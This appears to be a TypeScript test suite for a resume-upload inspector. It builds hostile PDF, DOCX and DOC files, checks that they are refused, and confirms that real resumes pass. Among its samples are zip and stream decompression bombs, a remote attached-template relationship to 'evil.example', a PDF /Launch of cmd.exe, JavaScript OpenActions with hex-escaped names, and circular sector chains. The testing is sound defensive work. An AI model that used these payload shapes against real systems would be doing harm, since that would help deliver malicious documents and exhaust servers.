import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { resumeErrorCodes } from '@jaali/contract';
import { describe, expect, test } from 'vitest';
import { inspectResume } from './inspect-resume.ts';

const fixture = (name: string) =>
  readFileSync(new URL(`../../../tests/fixtures/resumes/${name}`, import.meta.url));
const docx = fixture('written.docx');
const doc = fixture('written.doc');
const pdf = fixture('written.pdf');
const latin = (text: string) => Buffer.from(text, 'latin1');

/** An archive of one deflated file, that claims what it is told to claim. */
function zipOf(name: string, content: Buffer, claimed = content.length, flags = 0): Buffer {
  const packed = deflateRawSync(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(flags, 8);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt32LE(claimed, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(30 + name.length + packed.length, 16);
  return Buffer.concat([local, latin(name), packed, central, latin(name), end]);
}

/** The bytes with another value of the same length in place of the first match. */
function replaced(bytes: Buffer, from: string, to: string): Buffer {
  const text = bytes.toString('latin1');
  if (!text.includes(from) || from.length !== to.length) throw new Error(`cannot replace ${from}`);
  return latin(text.replace(from, to));
}

describe('a resume that a real program wrote', () => {
  test.each(['written.pdf', 'printed.pdf', 'packed.pdf', 'written.docx', 'written.doc'])(
    '%s passes',
    async (name) => expect(await inspectResume(name, fixture(name))).toBeNull(),
  );

  test.each(['locked.pdf', 'locked.docx', 'locked.doc'])('%s is refused as encrypted', async (name) =>
    expect(await inspectResume(name, fixture(name))).toBe('resume_encrypted'),
  );

  test('with macros is refused, whatever its content types say', async () =>
    expect(await inspectResume('macros.docx', fixture('macros.docx'))).toBe('resume_macros'));

  test.each([
    ['a.pdf', 'written.docx'],
    ['a.pdf', 'written.doc'],
    ['a.docx', 'written.pdf'],
    ['a.docx', 'written.doc'],
    ['a.docx', 'sheet.xlsx'],
    ['a.doc', 'written.docx'],
    ['a.doc', 'written.pdf'],
    ['a.doc', 'sheet.xls'],
  ])('named %s but holding %s is refused as a mismatch', async (name, content) =>
    expect(await inspectResume(name, fixture(content))).toBe('resume_mismatch'),
  );

  test.each(['written.pdf', 'printed.pdf', 'packed.pdf', 'written.docx', 'written.doc'])(
    '%s never passes when it was cut short, wherever',
    async (name) => {
      const whole = fixture(name);
      for (const part of [0.1, 0.4, 0.6, 0.9]) {
        const cut = whole.subarray(0, Math.floor(whole.length * part));
        expect(await inspectResume(name, cut)).toBe('resume_damaged');
      }
    },
  );
});

describe('a hostile archive', () => {
  test('that unpacks to more than 64 MB is refused, before and whatever it claims', async () => {
    const zeros = Buffer.alloc(80 * 1024 * 1024);
    expect(await inspectResume('a.docx', zipOf('word/document.xml', zeros))).toBe('resume_bomb');
    const liar = zipOf('word/document.xml', zeros, 1000);
    expect(liar.length).toBeLessThan(100_000);
    expect(await inspectResume('a.docx', liar)).toBe('resume_bomb');
  });

  test('with an encrypted part is refused as encrypted', async () => {
    const archive = zipOf('word/document.xml', latin('x'), 1, 1);
    expect(await inspectResume('a.docx', archive)).toBe('resume_encrypted');
  });

  test('whose parts overlap or lie outside is damaged', async () => {
    const outside = zipOf('a', latin('x'));
    outside.writeUInt32LE(0xfffffff0, outside.length - 22 - 47 + 42);
    expect(await inspectResume('a.docx', outside)).toBe('resume_damaged');
    const twice = zipOf('a', latin('x'));
    const central = twice.subarray(-22 - 47, -22);
    const end = Buffer.from(twice.subarray(-22));
    end.writeUInt16LE(2, 8);
    end.writeUInt16LE(2, 10);
    const overlapping = Buffer.concat([twice.subarray(0, -22), central, end]);
    expect(await inspectResume('a.docx', overlapping)).toBe('resume_damaged');
  });

  test('that is no document is a mismatch', async () => {
    expect(await inspectResume('a.docx', zipOf('readme.txt', latin('hello')))).toBe('resume_mismatch');
  });

  test.each([
    ['word/vbaProject.bin', 'x'],
    ['word/activeX/activeX1.xml', 'x'],
    ['[Content_Types].xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'],
    [
      'word/_rels/settings.xml.rels',
      '<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
    ],
  ])('with %s is refused for its program code', async (name, content) =>
    expect(await inspectResume('a.docx', zipOf(name, latin(content)))).toBe('resume_macros'),
  );
});

describe('a hostile PDF', () => {
  const withObject = (object: string) =>
    Buffer.concat([latin('%PDF-1.7\n'), latin(object), latin('\nstartxref\n0\n%%EOF\n')]);

  test.each([
    '1 0 obj <</OpenAction <</S/JavaScript/JS(app.alert(1))>>>> endobj',
    '1 0 obj <</S /J#61vaScript /JS (x)>> endobj',
    '1 0 obj <</S/Launch/F(cmd.exe)>> endobj',
  ])('with %s is refused', async (object) =>
    expect(await inspectResume('a.pdf', withObject(object))).toBe('resume_macros'),
  );

  test('may speak of JavaScript in its text', async () => {
    const stream = '1 0 obj <</Length 30>> stream\n(/JavaScript and /Launch) Tj\nendstream endobj';
    expect(await inspectResume('a.pdf', withObject(stream))).toBeNull();
  });

  test('behind another beginning is a mismatch', async () => {
    expect(await inspectResume('a.pdf', Buffer.concat([latin('MZ\u0090'), pdf]))).toBe('resume_mismatch');
    expect(await inspectResume('a.pdf', Buffer.concat([latin('\r\n'), pdf]))).toBeNull();
  });
});

describe('a hostile old document', () => {
  const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('latin1');

  test('with a storage of macros is refused', async () => {
    // The name of another stream of the same length becomes that of a macro storage.
    const table = doc.indexOf(utf16('1Table'), 0, 'latin1');
    const changed = replaced(doc, utf16('1Table'), utf16('Macros'));
    expect(table).toBeGreaterThan(0);
    expect(await inspectResume('a.doc', changed)).toBe('resume_macros');
  });

  test('whose sectors run in a circle is damaged', async () => {
    const changed = Buffer.from(doc);
    const directory = changed.readUInt32LE(48);
    const fat = (changed.readUInt32LE(76) + 1) * 512;
    changed.writeUInt32LE(directory, fat + directory * 4);
    expect(await inspectResume('a.doc', changed)).toBe('resume_damaged');
  });
});

test.each([
  ['a.pdf', latin(`%PDF-1.7\n${'\0'.repeat(2_000_000)}x${' '.repeat(2_000_000)}\nstartxref\n0\n%%EOF`)],
  ['a.pdf', latin(`%PDF-1.7\n${'stream\n'.repeat(500_000)}\nstartxref\n0\n%%EOF`)],
  ['a.docx', zipOf('word/_rels/settings.xml.rels', latin('<Relationship '.repeat(18_000)))],
  ['a.docx', zipOf('[Content_Types].xml', latin('<Relationship '.repeat(4_000_000)))],
])('a %s that is written to be slow to read is read within a second', async (name, bytes) => {
  const began = performance.now();
  await inspectResume(name, bytes);
  expect(performance.now() - began).toBeLessThan(1500);
});

test('no shortened, lengthened or mangled resume makes the inspection fail', async () => {
  let seed = 7;
  const random = (below: number) => {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    return seed % below;
  };
  for (const [name, original] of [
    ['a.docx', docx],
    ['a.doc', doc],
    ['a.pdf', pdf],
  ] as const)
    for (let round = 0; round < 150; round++) {
      const mangled = Buffer.from(original);
      for (let hit = 0; hit < 20; hit++) mangled[random(mangled.length)] = random(256);
      expect(resumeErrorCodes).toContain(
        (await inspectResume(name, mangled.subarray(0, random(mangled.length)))) ?? 'resume_damaged',
      );
    }
});

/** What an inspection in a process of its own says, with the memory that `npm start` and the service give it. */
async function inspectedInProduction(name: string, bytes: Buffer): Promise<string> {
  const folder = mkdtempSync(join(tmpdir(), 'resume-'));
  try {
    const file = join(folder, name);
    writeFileSync(file, bytes);
    const inspector = new URL('inspect-resume.ts', import.meta.url).href;
    const script = `const { inspectResume } = await import(${JSON.stringify(inspector)});
      console.log(await inspectResume(${JSON.stringify(name)}, (await import('node:fs')).readFileSync(${JSON.stringify(file)})));`;
    const limits = ['--max-semi-space-size=4', '--max-old-space-size=160'];
    const { stdout } = await promisify(execFile)(
      process.execPath,
      [...limits, '--input-type=module', '-e', script],
      { timeout: 20_000 },
    );
    return stdout.trim();
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

describe('a small file cannot take the memory or the time of the server', () => {
  const megabyte = 1024 * 1024;
  const objectStream = (content: Buffer) =>
    Buffer.concat([
      latin('1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n'),
      deflateSync(content),
      latin('\nendstream endobj\n'),
    ]);
  const pdfOf = (...parts: Buffer[]) =>
    Buffer.concat([latin('%PDF-1.5\n'), ...parts, latin('startxref\n9\n%%EOF')]);

  test('a PDF of 4.9 MB of escaped letters, plain', async () =>
    expect(await inspectedInProduction('a.pdf', pdfOf(Buffer.alloc(4.9 * megabyte, '#41')))).toBe('null'));

  test('a PDF of 8 kB whose objects unpack to 8 MB of escaped letters', async () => {
    const file = pdfOf(objectStream(Buffer.alloc(8 * megabyte, '#41')));
    expect(file.length).toBeLessThan(10_000);
    expect(await inspectedInProduction('a.pdf', file)).toBe('null');
  });

  test('a PDF whose objects unpack to more than 16 MB, in one stream or in many', async () => {
    const whole = pdfOf(objectStream(Buffer.alloc(17 * megabyte)));
    expect(await inspectedInProduction('a.pdf', whole)).toBe('resume_bomb');
    const many = pdfOf(...Array.from({ length: 17 }, () => objectStream(Buffer.alloc(megabyte))));
    expect(await inspectedInProduction('a.pdf', many)).toBe('resume_bomb');
  });

  test('a PDF of more than a thousand streams of objects', async () => {
    const streams = Array.from({ length: 1001 }, () => objectStream(latin('<<>>')));
    expect(await inspectedInProduction('a.pdf', pdfOf(...streams))).toBe('resume_bomb');
  });

  test('a Word document of 32 kB whose header names one sector five thousand times', async () => {
    const file = Buffer.alloc(8 * 4096);
    doc.copy(file, 0, 0, 76);
    file.writeUInt16LE(12, 30);
    for (let at = 76; at < 512; at += 4) file.writeUInt32LE(1, at);
    file.writeUInt32LE(0, 68);
    for (let at = 4096; at < 8192; at += 4) file.writeUInt32LE(1, at);
    expect(await inspectedInProduction('a.doc', file)).toBe('resume_damaged');
  });

  test('programs are found in the last of many streams, escaped or not', async () => {
    for (const name of ['/JavaScript (x)', '/J#61va#53#63ript', '/#4cau#6Ech<<'])
      expect(
        await inspectResume('a.pdf', pdfOf(objectStream(latin('<<>>')), objectStream(latin(`<<${name}`)))),
      ).toBe('resume_macros');
    expect(
      await inspectResume('a.pdf', pdfOf(objectStream(latin('/JavaScripts /J#61vaScript#41')))),
    ).toBeNull();
  });
});
